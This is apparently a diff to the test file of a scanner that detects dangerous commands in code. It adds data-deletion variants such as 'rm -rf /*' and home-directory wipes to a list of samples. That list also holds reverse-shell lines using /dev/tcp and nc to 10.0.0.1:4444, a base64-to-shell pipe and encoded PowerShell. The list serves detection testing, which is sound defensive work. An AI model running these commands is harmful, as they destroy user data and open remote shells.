@@ -62,6 +62,10 @@ SEEN = {
         "echo aGk= | base64 -d | sh",
         "rm -rf ~",
         "rm -rf / ",
+        "rm -rf /*",
+        "rm -rf ~/; echo done",
+        'rm -fr "$HOME"/*',
+        "rm -rf ${HOME}/*",
         "exec 3<>/dev/tcp/10.0.0.1/4444",
         "nc 10.0.0.1 4444 -e /bin/sh",
         "powershell -NoProfile -enc SQBFAFgA",
@@ -178,6 +182,15 @@ def test_python_in_another_encoding_is_read_as_it_would_run() -> None:
 )
 def test_what_cannot_be_read_is_said(path: str, content: bytes, kind: str) -> None:
     assert kind in {one.kind for one in find({path: content})}
+
+
+def test_of_more_python_than_there_is_time_for_the_largest_files_are_named() -> None:
+    large = b"eval('1')\n" * 20_000
+    files = {f"{n}.py": large + b"#" * n for n in range(6)} | {"z.py": b"eval('1')\n"}
+    found = find(files)
+    unread = [one.file for one in found if one.kind == "unreadable"]
+    assert unread == ["5.py"]
+    assert {one.file for one in found if one.kind == "runs-code"} == files.keys() - {"5.py"}
 
 
 def test_a_picture_is_no_finding() -> None:
